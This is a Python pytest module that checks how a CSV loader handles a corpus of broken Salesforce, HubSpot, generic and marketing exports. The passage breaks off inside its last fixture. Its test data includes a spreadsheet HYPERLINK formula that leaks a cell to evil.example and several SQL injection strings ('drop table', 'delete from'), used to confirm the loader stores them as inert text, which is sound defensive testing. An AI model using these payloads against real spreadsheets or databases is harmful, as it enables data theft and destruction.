"""The bad-input corpus: every kind of broken export, across all formats, with its exact outcome.

Each loader case writes a few literal CSV bytes (built from the real fixture headers) into its own
landing folder beside one good file, loads the folder and checks: the file loaded with the listed
quarantine reasons (or failed with one message naming file, line and problem), the ledger
reconciles for every file (read = loaded + quarantined, and the raw table and the quarantine hold
exactly those rows), and the good file still loaded. No case may raise.

Cases whose effect is in staging (versions, duplicates, deleted and merged records, stage labels,
currencies) share one landing folder, one load and one dbt build of the staging and entity models.
docs/reliability-corpus.md lists every case and its result.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest

from orchestration.loader import load_folder
from orchestration.settings import PROJECT_DIR

FIXTURES = Path(__file__).parents[1] / "fixtures"
GENERIC_MAPPING = PROJECT_DIR / "mappings" / "generic.yml"
AMOCRM_MAPPING = PROJECT_DIR / "mappings" / "amocrm.yml"


def _header(path: Path, encoding: str = "utf-8", delimiter: str = ",") -> list[str]:
    with path.open(encoding=encoding, newline="") as handle:
        return next(csv.reader(handle, delimiter=delimiter))


SF_OPPORTUNITY = _header(FIXTURES / "loader" / "salesforce_export" / "Opportunity.csv")
HS_DEALS = _header(FIXTURES / "loader" / "hubspot" / "deals.csv")
HS_CONTACTS = _header(FIXTURES / "loader" / "hubspot" / "contacts.csv")
AMOCRM_DEALS = _header(
    next((FIXTURES / "mappings" / "amocrm").glob("*.csv")), encoding="cp1251", delimiter=";"
)
GENERIC_DEALS = [
    "Deal ID",
    "Deal Name",
    "Pipeline",
    "Stage",
    "Amount",
    "Currency",
    "Probability",
    "Created At",
    "Closed At",
]
TOUCHES = ["event_id", "occurred_at", "person_email", "touch_type", "channel", "utm_campaign"]
EMAIL_EVENTS = ["event_id", "occurred_at", "person_email", "campaign_id", "event_type"]
AD_SPEND = ["day", "platform", "campaign_id", "campaign_name", "cost", "currency", "impressions", "clicks"]

SF_OPPORTUNITY_BASE = {
    "Id": "0065g00000Corp01AAA",
    "AccountId": "0015g00000XyZ01AAA",
    "Name": "Acme - 200 Widgets",
    "StageName": "Prospecting",
    "Amount": "12500.50",
    "Probability": "10",
    "CloseDate": "2024-03-31",
    "Type": "New Business",
    "LeadSource": "Web",
    "IsClosed": "0",
    "IsWon": "0",
    "OwnerId": "0055g00000Own01AAA",
    "CampaignId": "000000000000000AAA",
    "IsDeleted": "0",
    "CreatedDate": "2024-01-15 09:30:00",
    "LastModifiedDate": "2024-01-20T10:00:00Z",
    "SystemModstamp": "2024-01-20T10:00:00.000+0000",
}
HS_DEAL_BASE = {
    "hs_object_id": "501",
    "dealname": "Widget deal",
    "pipeline": "default",
    "dealstage": "appointmentscheduled",
    "amount": "1500",
    "deal_currency_code": "USD",
    "createdate": "2024-01-05T10:00:00Z",
    "hs_date_entered_appointmentscheduled": "2024-01-05T10:00:00Z",
}
GOOD_TOUCHES = [
    {"event_id": "good1", "occurred_at": "2024-01-01T10:00:00Z", "touch_type": "page_view"},
    {"event_id": "good2", "occurred_at": "2024-01-02T10:00:00Z", "touch_type": "ad_click"},
]
GOOD_FILE = "good/touches.csv"


def csv_bytes(
    header: list[str],
    rows: list[dict[str, str]],
    *,
    quote_all: bool = False,
    delimiter: str = ",",
    newline: str = "\n",
    encoding: str = "utf-8",
) -> bytes:
    """A CSV as an export tool writes it; columns a row does not name are empty."""
    out = io.StringIO()
    quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline, quoting=quoting)
    writer.writerow(header)
    writer.writerows([[row.get(h, "") for h in header] for row in rows])
    return out.getvalue().encode(encoding)


def sf_opportunities(*overrides: dict[str, str], header: list[str] = SF_OPPORTUNITY, **kw) -> bytes:
    """Salesforce Opportunity rows (every value quoted, like a real export), one per override."""
    rows = [{**SF_OPPORTUNITY_BASE, "Id": f"0065g00000Corp{i:02d}AAA", **o} for i, o in enumerate(overrides)]
    return csv_bytes(header, rows, quote_all=True, **kw)


def with_second_amount(data: bytes, amounts: list[str]) -> bytes:
    """Append a second "Amount" column to a Salesforce file, one value per data row."""
    lines = data.decode().splitlines()
    lines = [lines[0] + ',"Amount"'] + [f'{line},"{a}"' for line, a in zip(lines[1:], amounts, strict=True)]
    return ("\n".join(lines) + "\n").encode()


def hs_deals(*overrides: dict[str, str], header: list[str] = HS_DEALS) -> bytes:
    rows = [{**HS_DEAL_BASE, "hs_object_id": str(500 + i), **o} for i, o in enumerate(overrides)]
    return csv_bytes(header, rows)


def generic_deals(*overrides: dict[str, str], encoding: str = "utf-8") -> bytes:
    base = {
        "Deal ID": "g1",
        "Stage": "Proposal",
        "Pipeline": "default",
        "Amount": "100",
        "Created At": "2024-01-01",
    }
    rows = [{**base, "Deal ID": f"g{i}", **o} for i, o in enumerate(overrides)]
    return csv_bytes(GENERIC_DEALS, rows, encoding=encoding)


def touches(*overrides: dict[str, str], **kw) -> bytes:
    base = {"event_id": "t0", "occurred_at": "2024-02-01T10:00:00Z", "touch_type": "page_view"}
    return csv_bytes(TOUCHES, [{**base, "event_id": f"t{i}", **o} for i, o in enumerate(overrides)], **kw)


def ad_spend(*overrides: dict[str, str]) -> bytes:
    base = {
        "day": "2024-02-01",
        "platform": "google_ads",
        "campaign_id": "c1",
        "cost": "12.50",
        "currency": "USD",
    }
    return csv_bytes(AD_SPEND, [{**base, "campaign_id": f"c{i}", **o} for i, o in enumerate(overrides)])


@dataclass(frozen=True)
class Loaded:
    """The file loaded: `rows` rows in its raw table and these quarantine reasons (reason -> rows)."""

    rows: int
    reasons: dict[str, int] = field(default_factory=dict)


@dataclass(frozen=True)
class Failed:
    """The file failed as a whole with one message: '<file>: line <line>: ...<phrase>...'."""

    line: int | None
    phrase: str


@dataclass(frozen=True)
class Case:
    id: str
    fmt: str
    files: dict[str, bytes]
    expect: dict[str, Loaded | Failed]
    mappings: tuple[Path, ...] = ()
    # a query on the warehouse and the rows it must return (values landed exactly as written)
    check: tuple[str, list[tuple]] | None = None


CP1252_NAME = "Café Noël – 5€"
TEN_MB = 10 * 1024 * 1024
FORMULA = '=HYPERLINK("http://evil.example/x?leak="&A1,"Click me")'
SQL_LABEL = "'; drop table raw.salesforce__opportunity; --"
SQL_HEADER = 'x"; drop table loader.ledger; --'
LONG_HEADER = "Notes_" + "n" * 131_100 + "__c"  # longer than Python csv's field limit (131,072)
WIDE_HEADERS = [f"Custom_{i}_" + "w" * 100_000 + "__c" for i in range(3)]  # past the 256 KiB sniff window

CASES = [
    # ------------------------------------------------------------------ Salesforce
    Case(
        "sf_truncated_inside_a_quoted_value",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}) + b'"0065g00000Corp09AAA","0015g00000XyZ01AAA","Acme - 2'},
        {"Opportunity.csv": Loaded(1, {"malformed_row: Value with unterminated quote found.": 1})},
    ),
    Case(
        "sf_truncated_mid_row",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}) + b"0065g00000Corp09AAA,0015g00000XyZ01AAA,Acme"},
        {"Opportunity.csv": Loaded(1, {"malformed_row: Expected Number of Columns: 19 Found: 3": 1})},
    ),
    Case(
        "sf_wrong_delimiter",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, delimiter=";")},
        {
            "Opportunity.csv": Failed(
                1, "(the header is one column separated by ';'; this format expects ',')"
            )
        },
    ),
    Case(
        "sf_bom_and_crlf",
        "salesforce",
        {"Opportunity.csv": b"\xef\xbb\xbf" + sf_opportunities({}, {}, newline="\r\n")},
        {"Opportunity.csv": Loaded(2)},
        check=(
            "select id, stagename from raw.salesforce__opportunity order by id",
            [("0065g00000Corp00AAA", "Prospecting"), ("0065g00000Corp01AAA", "Prospecting")],
        ),
    ),
    Case(
        "sf_cp1252_without_a_mapping_declaring_it",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, {"Name": CP1252_NAME}, encoding="cp1252")},
        {
            "Opportunity.csv": Failed(
                3, "bytes that are not valid utf-8-sig: invalid continuation byte; expected utf-8 text"
            )
        },
    ),
    Case(
        "sf_latin1_header_without_a_mapping_declaring_it",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, header=["Région"] + SF_OPPORTUNITY, encoding="latin-1")},
        {"Opportunity.csv": Failed(1, "bytes that are not valid utf-8")},
    ),
    Case(
        "sf_missing_required_column",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, header=[h for h in SF_OPPORTUNITY if h != "StageName"])},
        {"Opportunity.csv": Failed(1, "missing required column(s) StageName")},
    ),
    Case(
        "sf_extra_and_reordered_columns",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {"Brand_New__c": "x"}, header=["Brand_New__c"] + list(reversed(SF_OPPORTUNITY))
            )
        },
        {"Opportunity.csv": Loaded(1)},
        check=(
            "select id, stagename, amount, _extra ->> 'Brand_New__c' from raw.salesforce__opportunity",
            [("0065g00000Corp00AAA", "Prospecting", 12500.5, "x")],
        ),
    ),
    Case(
        "sf_duplicate_header_with_conflicting_values",
        "salesforce",
        # the same header twice: rows whose copies agree (or one is empty) load; which of two
        # different amounts is true cannot be known, so that row is quarantined, not half-dropped
        {"Opportunity.csv": with_second_amount(sf_opportunities({}, {}, {}), ["12500.50", "", "999"])},
        {"Opportunity.csv": Loaded(2, {"conflicting_duplicate_column:amount": 1})},
    ),
    Case(
        "sf_impossible_date",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, {"CloseDate": "2023-02-30"})},
        {"Opportunity.csv": Loaded(1, {"unparseable_date:closedate": 1})},
    ),
    Case(
        "sf_future_created_date",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {}, {"CreatedDate": "2099-01-01 00:00:00", "CloseDate": "2099-02-01"}
            )
        },
        {"Opportunity.csv": Loaded(1, {"future_timestamp:createddate": 1})},
    ),
    Case(
        "sf_close_before_create",
        "salesforce",
        # a day earlier (a timezone away) and a month earlier (imported history, or an expected close
        # that had passed) are both real CRM data: they load, and staging flags the second
        {"Opportunity.csv": sf_opportunities({"CloseDate": "2024-01-14"}, {"CloseDate": "2023-12-15"})},
        {"Opportunity.csv": Loaded(2)},
    ),
    Case(
        "sf_negative_nan_and_huge_amounts",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {}, {"Amount": "-500.00"}, {"Amount": "NaN"}, {"Amount": "Infinity"}, {"Amount": "1e15"}
            )
        },
        {
            "Opportunity.csv": Loaded(
                1, {"below_min:amount": 1, "unparseable_number:amount": 2, "above_max:amount": 1}
            )
        },
    ),
    Case(
        "sf_probability_over_100",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({"Probability": "100"}, {"Probability": "150"})},
        {"Opportunity.csv": Loaded(1, {"above_max:probability": 1})},
    ),
    Case(
        "sf_empty_file",
        "salesforce",
        {"Opportunity.csv": b""},
        {"Opportunity.csv": Failed(None, "the file is empty; expected the salesforce opportunity header")},
    ),
    Case(
        "sf_header_only_file",
        "salesforce",
        {"Opportunity.csv": sf_opportunities()},
        {"Opportunity.csv": Loaded(0)},
    ),
    Case(
        "sf_binary_garbage",
        "salesforce",
        {"Opportunity.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xb5U\x1e"},
        {"Opportunity.csv": Failed(1, "contains NUL bytes: this is a binary file, not a CSV")},
    ),
    Case(
        "sf_ten_megabyte_field",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({}, {"Name": "x" * TEN_MB})},
        {"Opportunity.csv": Loaded(2)},
        check=("select max(length(name)) from raw.salesforce__opportunity", [(TEN_MB,)]),
    ),
    Case(
        "sf_spreadsheet_formula_in_cells",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {"Name": FORMULA, "LeadSource": "=1+2", "Region__c": "@SUM(A1)"}
            )
        },
        {"Opportunity.csv": Loaded(1)},
        # kept verbatim as text (never evaluated, never dropped): what a writer must neutralise
        check=(
            "select name, leadsource, _extra ->> 'Region__c' from raw.salesforce__opportunity",
            [(FORMULA, "=1+2", "@SUM(A1)")],
        ),
    ),
    Case(
        "sf_sql_looking_labels_and_headers",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {"StageName": SQL_LABEL, SQL_HEADER: "1'); delete from loader.files; --"},
                header=SF_OPPORTUNITY + [SQL_HEADER],
            )
        },
        {"Opportunity.csv": Loaded(1)},
        check=(
            f"select stagename, _extra ->> '{SQL_HEADER}', (select count(*) from loader.ledger) "
            "from raw.salesforce__opportunity",
            [(SQL_LABEL, "1'); delete from loader.files; --", 2)],
        ),
    ),
    Case(
        "sf_schema_changes_between_daily_exports",
        "salesforce",
        {
            "2024-03-01/Opportunity.csv": sf_opportunities({}),
            # next day: Probability removed, a custom field added, columns in another order
            "2024-03-02/Opportunity.csv": sf_opportunities(
                {"Amount": "13000", "Forecast__c": "Commit"},
                header=[h for h in reversed(SF_OPPORTUNITY) if h != "Probability"] + ["Forecast__c"],
            ),
        },
        {"2024-03-01/Opportunity.csv": Loaded(1), "2024-03-02/Opportunity.csv": Loaded(1)},
        check=(
            "select cast(cast(_exported_at as date) as varchar), amount, probability, _extra ->> 'Forecast__c' "
            "from raw.salesforce__opportunity order by _exported_at",
            [("2024-03-01", 12500.5, 10.0, None), ("2024-03-02", 13000.0, None, "Commit")],
        ),
    ),
    Case(
        "sf_unreadable_lines_and_bad_values_together",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities({}, {"Id": ""}, {"IsWon": "maybe"})
            + b'"0065g00000Corp09AAA","only","three"\n'
            + sf_opportunities({"Id": "0065g00000Corp10AAA"}).split(b"\n", 1)[1]
        },
        {
            "Opportunity.csv": Loaded(
                2,
                {
                    "missing_required:id": 1,
                    "invalid_boolean:iswon": 1,
                    "malformed_row: Expected Number of Columns: 19 Found: 3": 1,
                },
            )
        },
    ),
    Case(
        "sf_cr_only_line_endings",
        "salesforce",
        # old Mac Excel: records end with a bare CR; a quoted value keeps its own line break
        {"Opportunity.csv": sf_opportunities({}, {"Name": "two\nlines"}, newline="\r")},
        {"Opportunity.csv": Loaded(2)},
        check=(
            "select id, name from raw.salesforce__opportunity order by id",
            [("0065g00000Corp00AAA", "Acme - 200 Widgets"), ("0065g00000Corp01AAA", "two\nlines")],
        ),
    ),
    Case(
        "sf_header_cell_longer_than_131072_characters",
        "salesforce",
        {"Opportunity.csv": sf_opportunities({LONG_HEADER: "kept"}, header=SF_OPPORTUNITY + [LONG_HEADER])},
        {"Opportunity.csv": Loaded(1)},
        check=(
            f"select stagename, _extra ->> '{LONG_HEADER}' from raw.salesforce__opportunity",
            [("Prospecting", "kept")],
        ),
    ),
    Case(
        "sf_header_longer_than_the_sniff_window",
        "salesforce",
        {
            "Opportunity.csv": sf_opportunities(
                {}, {WIDE_HEADERS[2]: "last"}, header=SF_OPPORTUNITY + WIDE_HEADERS
            )
        },
        {"Opportunity.csv": Loaded(2)},
        check=(
            f"select id, _extra ->> '{WIDE_HEADERS[2]}' from raw.salesforce__opportunity order by id",
            [("0065g00000Corp00AAA", None), ("0065g00000Corp01AAA", "last")],
        ),
    ),
    Case(
        "sf_utf16_le_with_bom",
        "salesforce",
        # Windows tools write UTF-16 with a BOM: NUL bytes everywhere, and still text
        {"Opportunity.csv": b"\xff\xfe" + sf_opportunities({}, {"Name": CP1252_NAME}, encoding="utf-16-le")},
        {"Opportunity.csv": Loaded(2)},
        check=(
            "select id, name from raw.salesforce__opportunity order by id",
            [("0065g00000Corp00AAA", "Acme - 200 Widgets"), ("0065g00000Corp01AAA", CP1252_NAME)],
        ),
    ),
    # ------------------------------------------------------------------ HubSpot
    Case(
        "hs_probability_over_1",
        "hubspot",
        {
            "deals.csv": hs_deals(
                {"hs_deal_stage_probability": "0.2"},
                {"hs_deal_stage_probability": "20"},
                header=HS_DEALS + ["hs_deal_stage_probability"],
            )
        },
        {"deals.csv": Loaded(1, {"above_max:hs_deal_stage_probability": 1})},
    ),
    Case(
        "hs_close_before_create_and_negative_amount",
        "hubspot",
        {
            "deals.csv": hs_deals(
                {}, {"closedate": "2023-06-01T00:00:00Z"}, {"amount": "-1"}, {"amount": "nan"}
            )
        },
        # the close before the create loads (staging flags it); the amounts cannot be represented
        {"deals.csv": Loaded(2, {"below_min:amount": 1, "unparseable_number:amount": 1})},
    ),
    Case(
        "hs_future_stage_entered_date",
        "hubspot",
        {"deals.csv": hs_deals({}, {"hs_date_entered_12345678": "2099-01-10T09:00:00.000Z"})},
        {"deals.csv": Loaded(1, {"future_timestamp:hs_date_entered_12345678": 1})},
    ),
    Case(
        "hs_contacts_bom_crlf_and_cyrillic_cjk_emoji_values",
        "hubspot",
        {
            "contacts.csv": b"\xef\xbb\xbf"
            + csv_bytes(
                HS_CONTACTS,
                [
                    {
                        "hs_object_id": "601",
                        "email": "иван@пример.рф",
                        "createdate": "2024-01-01T00:00:00Z",
                        "lifecyclestage": "lead",
                    },
                    {
                        "hs_object_id": "602",
                        "email": "王@例子.中国",
                        "createdate": "2024-01-02T00:00:00Z",
                        "lifecyclestage": "lead",
                    },
                    {
                        "hs_object_id": "603",
                        "email": "🚀@example.com",
                        "createdate": "2024-01-03T00:00:00Z",
                        "lifecyclestage": "lead",
                    },
                ],
                newline="\r\n",
            )
        },
        {"contacts.csv": Loaded(3)},
        check=(
            "select hs_object_id, email from raw.hubspot__contacts order by 1",
            [("601", "иван@пример.рф"), ("602", "王@例子.中国"), ("603", "🚀@example.com")],
        ),
    ),
    Case(
        "hs_missing_required_column",
        "hubspot",
        {"contacts.csv": csv_bytes([h for h in HS_CONTACTS if h != "createdate"], [{"hs_object_id": "1"}])},
        {"contacts.csv": Failed(1, "missing required column(s) createdate")},
    ),
    Case(
        "hs_binary_garbage_without_nul_bytes",
        "hubspot",
        {"deals.csv": bytes(range(0x80, 0x100)) * 64},
        {"deals.csv": Failed(1, "bytes that are not valid utf-8: binary data or another encoding")},
    ),
    # ------------------------------------------------------------------ generic (mapping files)
    Case(
        "generic_cp1252_without_declaring_it",
        "generic",
        {"deals.csv": generic_deals({}, {"Deal Name": CP1252_NAME}, encoding="cp1252")},
        {"deals.csv": Failed(3, "bytes that are not valid utf-8-sig")},
        mappings=(GENERIC_MAPPING,),
    ),
    Case(
        "generic_cp1251_declared_by_its_mapping",
        "generic",
        {
            "amocrm_deals.csv": csv_bytes(
                AMOCRM_DEALS,
                [
                    {
                        "ID": "1",
                        "Название сделки": "Поставка",
                        "Бюджет": "1 234,50",
                        "Этап сделки": "Переговоры",
                        "Дата создания": "15.01.2024 12:30:00",
                    },
                    {
                        "ID": "2",
                        "Название сделки": "Ошибка",
                        "Бюджет": "5",
                        "Этап сделки": "Переговоры",
                        "Дата создания": "30.02.2024 10:00",
                    },
                ],
                delimiter=";",
                encoding="cp1251",
            )
        },
        {"amocrm_deals.csv": Loaded(1, {"unparseable_timestamp:created_at": 1})},
        mappings=(AMOCRM_MAPPING,),
        check=("select deal_name, amount from raw.generic__deals", [("Поставка", 1234.5)]),
    ),
    Case(
        "generic_utf16_with_bom_despite_the_mapping_declaring_cp1251",
        "generic",
        {
            "amocrm_deals.csv": b"\xff\xfe"
            + csv_bytes(
                AMOCRM_DEALS,
                [
                    {
                        "ID": "1",
                        "Название сделки": "Поставка",
                        "Бюджет": "1 234,50",
                        "Этап сделки": "Переговоры",
                        "Дата создания": "15.01.2024 12:30:00",
                    }
                ],
                delimiter=";",
                encoding="utf-16-le",
            )
        },  # fmt: skip
        {"amocrm_deals.csv": Loaded(1)},
        mappings=(AMOCRM_MAPPING,),
        check=("select deal_name, amount from raw.generic__deals", [("Поставка", 1234.5)]),
    ),
    Case(
        "generic_probability_over_100_and_close_before_create",
        "generic",
        # generic.yml writes probabilities 0-1: 1.5 is 150 %
        {
            "deals.csv": generic_deals(
                {"Probability": "0.5"}, {"Probability": "1.5"}, {"Closed At": "2023-01-01"}
            )
        },
        {"deals.csv": Loaded(2, {"above_max:probability": 1})},
        mappings=(GENERIC_MAPPING,),
    ),
    Case(
        "generic_wrong_delimiter",
        "generic",
        {"deals.csv": csv_bytes(GENERIC_DEALS, [{"Deal ID": "g1"}], delimiter="\t")},
        {"deals.csv": Failed(1, "separated by tab; this format expects ','")},
        mappings=(GENERIC_MAPPING,),
    ),
    Case(
        "generic_missing_required_and_future_values",
        "generic",
        {"deals.csv": generic_deals({}, {"Stage": ""}, {"Created At": "2999-12-31"})},
        {"deals.csv": Loaded(1, {"missing_required:stage": 1, "future_timestamp:created_at": 1})},
        mappings=(GENERIC_MAPPING,),
    ),
    # ------------------------------------------------------------------ marketing
    Case(
        "mk_future_and_impossible_touch_times",
        "marketing",
        {
            "touches_feb.csv": touches(
                {}, {"occurred_at": "2099-01-01T00:00:00Z"}, {"occurred_at": "2024-02-30"}
            )
        },
        {
            "touches_feb.csv": Loaded(
                1, {"future_timestamp:occurred_at": 1, "unparseable_timestamp:occurred_at": 1}
            )
        },
    ),
    Case(
        "mk_negative_and_huge_spend",
        "marketing",
        {
            "ad_spend.csv": ad_spend(
                {}, {"cost": "-3"}, {"cost": "5e12"}, {"clicks": "2.5"}, {"day": "2023-02-30"}
            )
        },
        {
            "ad_spend.csv": Loaded(
                1,
                {
                    "below_min:cost": 1,
                    "above_max:cost": 1,
                    "unparseable_number:clicks": 1,
                    "unparseable_date:day": 1,
                },
            )
        },
    ),
    Case(
        "mk_email_events_missing_required_values",
        "marketing",
        {
            "email_events.csv": csv_bytes(
                EMAIL_EVENTS,
                [
                    {
                        "event_id": "m1",
                        "occurred_at": "2024-02-01T10:00:00Z",
                        "person_email": "a@example.com",
                        "event_type": "open",
                    },
                    {"event_id": "m2", "occurred_at": "2024-02-01T10:00:00Z", "event_type": "click"},
                ],
            )
        },
        {"email_events.csv": Loaded(1, {"missing_required:person_email": 1})},
    ),
    Case(
        "mk_header_only_and_empty_files",
        "marketing",
        {"touches_header_only.csv": csv_bytes(TOUCHES, []), "touches_empty.csv": b"\n\n"},
        {
            "touches_header_only.csv": Loaded(0),
            "touches_empty.csv": Failed(None, "the file is empty; expected the marketing touches header"),
        },
    ),
    Case(
        "mk_wrong_delimiter_semicolon",
        "marketing",
        {"touches_x.csv": touches({}, delimiter=";")},
        {"touches_x.csv": Failed(1, "separated by ';'")},
    ),
]


def _load_case(case: Case, tmp_path: Path) -> tuple[duckdb.DuckDBPyConnection, dict]:
    landing = tmp_path / "landing"
    for relative, data in {**case.files, GOOD_FILE: csv_bytes(TOUCHES, GOOD_TOUCHES)}.items():
        path = landing / "case" / relative if relative != GOOD_FILE else landing / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    con = duckdb.connect(str(tmp_path / "wh.duckdb"))
    report = load_folder(con, landing, mappings=list(case.mappings))  # must never raise
    return con, report.by_file()


def assert_ledger_reconciles(con: duckdb.DuckDBPyConnection) -> None:
    """Per file: read = loaded + quarantined, and the raw table and quarantine hold exactly those rows."""
    ledger = con.execute(
        "select source_file, target_table, status, rows_read, rows_loaded, rows_quarantined from loader.ledger"
    ).fetchall()
    assert ledger
    for source_file, table, status, read, loaded, quarantined in ledger:
        assert read == loaded + quarantined, source_file
        if status in ("failed", "unrecognised", "skipped_duplicate"):
            assert (read, loaded, quarantined) == (0, 0, 0), source_file
            continue
        in_raw = con.execute(
            f"select count(*) from {table} where _source_file = ?", [source_file]
        ).fetchone()[0]
        in_quarantine = con.execute(
            "select count(*) from loader.quarantine where source_file = ?", [source_file]
        ).fetchone()[0]
        assert (in_raw, in_quarantine) == (loaded, quarantined), source_file


def _quarantine_reasons(con: duckdb.DuckDBPyConnection, source_file: str) -> dict[str, int]:
    rows = con.execute(
        "select unnest(string_split(reason, '; ')) as code, count(*) from loader.quarantine "
        "where source_file = ? group by code",
        [source_file],
    ).fetchall()
    return dict(rows)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_has_its_expected_outcome(case: Case, tmp_path: Path) -> None:
    con, results = _load_case(case, tmp_path)
    for relative, expected in case.expect.items():
        source_file = f"case/{relative}"
        result = results[source_file]
        if isinstance(expected, Failed):
            where = f"{source_file}: line {expected.line}: " if expected.line else f"{source_file}: "
            assert result.status == "failed", result
            assert result.message.startswith(where), result.message
            assert expected.phrase in result.message, result.message
            assert "Traceback" not in result.message and "\n" not in result.message
        else:
            assert result.status in ("loaded", "loaded_with_quarantine"), result.message
            assert result.rows_loaded == expected.rows
            assert _quarantine_reasons(con, source_file) == expected.reasons
    assert_ledger_reconciles(con)
    good = results[GOOD_FILE]
    assert (good.status, good.rows_read, good.rows_loaded) == ("loaded", 2, 2)
    if case.check is not None:
        sql, rows = case.check
        assert con.execute(sql).fetchall() == rows


def test_quarantined_rows_keep_their_line_and_the_record_as_written(tmp_path: Path) -> None:
    case = next(c for c in CASES if c.id == "sf_unreadable_lines_and_bad_values_together")
    con, _ = _load_case(case, tmp_path)
    rows = con.execute(
        "select line_number, reason, coalesce(record ->> 'Id', record ->> '_raw_line') from loader.quarantine "
        "order by line_number"
    ).fetchall()
    assert rows == [
        (3, "missing_required:id", None),  # a quoted empty value reads as null
        (4, "invalid_boolean:iswon", "0065g00000Corp02AAA"),
        (5, "malformed_row: Expected Number of Columns: 19 Found: 3", '"0065g00000Corp09AAA","only","three"'),
    ]


# ---------------------------------------------------------------------------- staging effects
#
# One landing folder holds every case whose effect shows after staging, each with its own ids;
# it is loaded once and built once (staging, stage labels, int_persons, int_deals), then the
# stage-label test runs alone, because unknown labels must fail it.

SF_OPPORTUNITY_FX = SF_OPPORTUNITY + ["CurrencyIsoCode"]
SF_LEAD = [
    "Id", "FirstName", "LastName", "Email", "Company", "Status", "LeadSource", "MasterRecordId", "IsDeleted",
    "CreatedDate", "SystemModstamp",
]  # fmt: skip
CORPUS_MAPPING = """\
source_system: corpus_crm
files:
  - match: "deals*.csv"
    entity: deals
    columns: {Deal ID: deal_id, Stage: stage, Amount: amount, Currency: currency, Created At: created_at}
stage_labels:
  - {label: "Предложение", stage: proposal}
  - {label: "方案报价", stage: negotiation}
  - {label: "🚀 Won", stage: closed_won}
"""
UNMAPPED_LABELS = ("Legal Review Custom", "99999999", "未知阶段")


def _opportunity(deal_id: str, **values: str) -> dict[str, str]:
    return {**SF_OPPORTUNITY_BASE, "CurrencyIsoCode": "USD", "Id": deal_id, **values}


def _lead(lead_id: str, **values: str) -> dict[str, str]:
    base = {"LastName": "Doe", "Status": "Open - Not Contacted", "IsDeleted": "0"}
    return {**base, "Id": lead_id, "CreatedDate": "2024-01-10 08:00:00", **values}


def staging_landing(root: Path) -> Path:
    newer, older = "2024-03-01T10:00:00.000+0000", "2024-02-20T10:00:00.000+0000"
    files = {
        "salesforce/2024-03-01/Opportunity.csv": csv_bytes(
            SF_OPPORTUNITY_FX,
            [
                # conflicting versions: this export is older but its record was modified later
                _opportunity("006VER", StageName="Qualification", SystemModstamp=newer, Amount="100"),
                # the same id twice in one file with the same modified time: the later line wins
                _opportunity("006DUPW", Amount="10"),
                _opportunity("006DUPW", Amount="20"),
                # an exact duplicate line
                _opportunity("006EXACT", Amount="30"),
                _opportunity("006EXACT", Amount="30"),
                _opportunity("006ACROSS", StageName="Closed Won", IsClosed="1", IsWon="1", Amount="40"),
                _opportunity("006DEL", IsDeleted="1", Amount="50"),
                _opportunity("006NOFX", CurrencyIsoCode="XYZ", Amount="500"),
                _opportunity("006CASE1", StageName="closed WON", IsClosed="1", IsWon="1", Amount="60"),
                _opportunity("006CASE2", StageName="  PROPOSAL/price   QUOTE "),
                _opportunity("006UNK", StageName=UNMAPPED_LABELS[0]),
            ],
            quote_all=True,
        ),
        "salesforce/2024-03-02/Opportunity.csv": csv_bytes(
            SF_OPPORTUNITY_FX,
            [
                _opportunity("006VER", StageName="Closed Lost", SystemModstamp=older, Amount="999"),
                # the same record in a second file
                _opportunity("006ACROSS", StageName="Closed Won", IsClosed="1", IsWon="1", Amount="40"),
            ],
            quote_all=True,
        ),
        "salesforce/Lead.csv": csv_bytes(
            SF_LEAD,
            [
                _lead("00QMASTER"),
                _lead("00QMERGED", MasterRecordId="00QMASTER"),
                _lead("00QDELETED", IsDeleted="1"),
            ],
            quote_all=True,
        ),
        "hubspot/contacts.csv": csv_bytes(
            HS_CONTACTS + ["hs_merged_object_ids"],
            [
                {
                    "hs_object_id": "701",
                    "createdate": "2024-01-01T00:00:00Z",
                    "lifecyclestage": "lead",
                    "hs_merged_object_ids": "702;703",
                },
                {"hs_object_id": "702", "createdate": "2024-01-02T00:00:00Z", "lifecyclestage": "lead"},
                {"hs_object_id": "704", "createdate": "2024-01-03T00:00:00Z", "lifecyclestage": "lead"},
            ],  # fmt: skip
        ),
        "hubspot/deals.csv": hs_deals(
            {"hs_object_id": "801", "dealstage": UNMAPPED_LABELS[1]},
            {"hs_object_id": "802", "dealstage": "CLOSEDWON", "amount": "70"},
        ),
        "corpus_crm/mapping.yml": CORPUS_MAPPING.encode(),
        "corpus_crm/deals.csv": csv_bytes(
            ["Deal ID", "Stage", "Amount", "Currency", "Created At"],
            [
                {"Deal ID": "c1", "Stage": "Предложение", "Amount": "1", "Created At": "2024-01-01"},
                {"Deal ID": "c2", "Stage": "方案报价", "Amount": "2", "Created At": "2024-01-01"},
                {"Deal ID": "c3", "Stage": "🚀 Won", "Amount": "3", "Created At": "2024-01-01"},
                {"Deal ID": "c4", "Stage": UNMAPPED_LABELS[2], "Amount": "4", "Created At": "2024-01-01"},
            ],
        ),
    }
    for relative, data in files.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_bytes(data)
    return root


@dataclass
class StagedCorpus:
    warehouse: Path
    label_test_failure: str


@pytest.fixture(scope="module")
def staged(tmp_path_factory: pytest.TempPathFactory) -> StagedCorpus:
    from conftest import settings_in

    from orchestration.warehouse.dbt import DbtError, run_dbt

